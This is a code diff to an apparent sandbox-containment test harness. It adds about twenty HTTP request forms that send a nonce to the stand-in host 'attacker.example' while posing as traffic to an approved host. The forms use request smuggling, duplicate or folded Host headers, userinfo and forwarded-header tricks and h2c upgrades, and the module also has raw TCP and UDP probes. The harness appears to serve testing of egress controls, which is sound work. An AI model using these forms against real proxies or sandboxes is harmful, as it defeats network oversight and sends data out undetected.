@@ -5,33 +5,61 @@ from __future__ import annotations
 import socket
 import time
 
-from containment.lab.world.attacks.task import Attempt, Technique, closing
+from containment.lab.world.attacks.task import Attempt, Technique, closing, unescaped
+
+_APPROVED = "integrate.api.nvidia.com"
+"""A name that every class permits."""
 
 
 def http(attempt: Attempt) -> None:
-    """Speak HTTP with a Host that may be approved."""
+    """Speak HTTP with a Host that may be approved, in the ways that proxies have been fooled."""
     host = attempt.option("host", "attacker.example")
     attempt.marks.append(host.lower())
-    body = f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
-    forms = {
-        "connect": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nX-Data: {attempt.nonce}\r\n\r\n",
-        "absolute": f"POST http://{host}/{attempt.nonce} HTTP/1.1\r\nHost: github.com\r\nContent-Length: 0\r\n\r\n",
-        "websocket": f"GET /{attempt.nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
-        "h2c": f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{attempt.nonce}",
-        "old": f"GET /{attempt.nonce} HTTP/1.0\r\n\r\n",
-        "case": f"POST / HTTP/1.1\r\nhOsT: {host.upper()}.\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}",
-    }
+    sent = _request(attempt.option("form"), host, attempt.nonce)
     with closing(attempt.connect(attempt.number("port", 443))) as handle:
         if attempt.option("form") == "reused":
-            handle.sendall(b"GET / HTTP/1.1\r\nHost: github.com\r\n\r\n")
+            handle.sendall(f"GET / HTTP/1.1\r\nHost: {_APPROVED}\r\n\r\n".encode())
             handle.recv(4096)
-        handle.sendall(forms.get(attempt.option("form"), body).encode())
+        handle.sendall(sent.encode())
+
+
+def _request(form: str, host: str, nonce: str) -> str:
+    """Return a request with the nonce; the Host's is the name that decides, unless the form says otherwise."""
+    rest = f"Content-Length: {len(nonce)}\r\n\r\n{nonce}"
+    approved = f"GET / HTTP/1.1\r\nHost: {_APPROVED}\r\n"
+    hidden = f"POST /{nonce} HTTP/1.1\r\nHost: {host}\r\n\r\n"
+    forms = {
+        "": f"POST / HTTP/1.1\r\nHost: {host}\r\n{rest}",
+        "connect": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nX-Data: {nonce}\r\n\r\n",
+        "connect-other-host": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {_APPROVED}:443\r\nX-Data: {nonce}\r\n\r\n",
+        "absolute": f"POST http://{host}/{nonce} HTTP/1.1\r\nHost: {_APPROVED}\r\nContent-Length: 0\r\n\r\n",
+        "absolute-approved": f"POST http://{_APPROVED}/ HTTP/1.1\r\nHost: {host}\r\n{rest}",
+        "websocket": f"GET /{nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
+        "h2c": f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{nonce}",
+        "h2c-upgrade": f"GET /{nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
+        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
+        "old": f"GET /{nonce} HTTP/1.0\r\n\r\n",
+        "case": f"POST / HTTP/1.1\r\nhOsT: {host.upper()}.\r\n{rest}",
+        "pipelined": f"{approved}\r\n{hidden}",
+        "chunked": f"{approved.replace('GET', 'POST')}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
+        "long-body": f"{approved.replace('GET', 'POST')}Content-Length: {len(hidden)}\r\n\r\n{hidden}",
+        "two-hosts": f"POST / HTTP/1.1\r\nHost: {_APPROVED}\r\nHost: {host}\r\n{rest}",
+        "port": f"POST / HTTP/1.1\r\nHost: {host}:8080\r\n{rest}",
+        "user": f"POST / HTTP/1.1\r\nHost: {_APPROVED}@{host}\r\n{rest}",
+        "folded": f"POST / HTTP/1.1\r\nHost: {_APPROVED}\r\n {host}\r\n{rest}",
+        "forwarded": f"POST / HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Host: {_APPROVED}\r\nForwarded: host={_APPROVED}\r\n{rest}",
+        "bare-lines": f"POST / HTTP/1.1\nHost: {host}\nContent-Length: {len(nonce)}\n\n{nonce}",
+        "empty-lines": f"\r\n\r\nPOST / HTTP/1.1\r\nHost: {host}\r\n{rest}",
+        "method": f"EXFIL /{nonce} HTTP/1.1\r\nHost: {host}\r\n\r\n",
+        "version": f"GET /{nonce} HTTP/9.9\r\nHost: {host}\r\n\r\n",
+    }
+    return forms[form]
 
 
 def say(attempt: Attempt) -> None:
     """Open a connection and say something of another protocol, then the nonce."""
     with closing(attempt.connect(attempt.number("port", 443))) as handle:
-        handle.sendall(attempt.option("say").encode().decode("unicode_escape").encode("latin-1") + attempt.nonce.encode() + b"\r\n")
+        handle.sendall(unescaped(attempt.option("say")) + attempt.nonce.encode() + b"\r\n")
 
 
 def udp(attempt: Attempt) -> None:
@@ -40,7 +68,7 @@ def udp(attempt: Attempt) -> None:
     with socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM) as handle:
         if "sport" in attempt.options:
             handle.bind(("", attempt.number("sport", 0)))
-        first = attempt.option("say").encode().decode("unicode_escape").encode("latin-1")
+        first = unescaped(attempt.option("say"))
         data = first + attempt.nonce.encode() + b"." * attempt.number("pad", 0)
         for _ in range(2):
             handle.sendto(data, (where, attempt.number("port", 443)))
